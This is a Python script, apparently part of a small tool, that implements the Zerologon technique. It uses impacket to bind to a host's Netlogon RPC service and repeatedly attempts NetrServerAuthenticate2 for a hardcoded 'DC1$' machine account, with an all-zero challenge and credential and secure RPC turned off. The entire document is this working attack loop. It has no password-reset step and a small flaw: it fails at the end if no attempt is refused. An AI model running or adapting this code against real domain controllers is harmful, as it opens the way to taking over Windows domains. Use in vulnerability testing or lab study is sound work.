"""Tries an empty credential again and again, as the Zerologon attack does: `zerologon HOST ATTEMPTS`."""

import sys

from impacket.dcerpc.v5 import nrpc
from impacket.dcerpc.v5.rpcrt import DCERPCException

from .connect import mapped_port, tcp

SERVER, ACCOUNT, COMPUTER = "\\\\DC1\0", "DC1$\0", "DC1\0"
ALL_ZERO = bytes(8)
# Without secure RPC, so that the credential is all that counts.
FLAGS = 0x212FFFFF


def main():
    host, attempts = sys.argv[1], int(sys.argv[2])
    rpc = tcp(host, mapped_port(host, nrpc.MSRPC_UUID_NRPC))
    rpc.bind(nrpc.MSRPC_UUID_NRPC)
    channel = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
    for _ in range(attempts):
        nrpc.hNetrServerReqChallenge(rpc, SERVER, COMPUTER, ALL_ZERO)
        try:
            nrpc.hNetrServerAuthenticate2(rpc, SERVER, ACCOUNT, channel, COMPUTER, ALL_ZERO, FLAGS)
        except DCERPCException as refusal:
            last = refusal
    print(f"{attempts} attempts, the last: {last}")


if __name__ == "__main__":
    main()
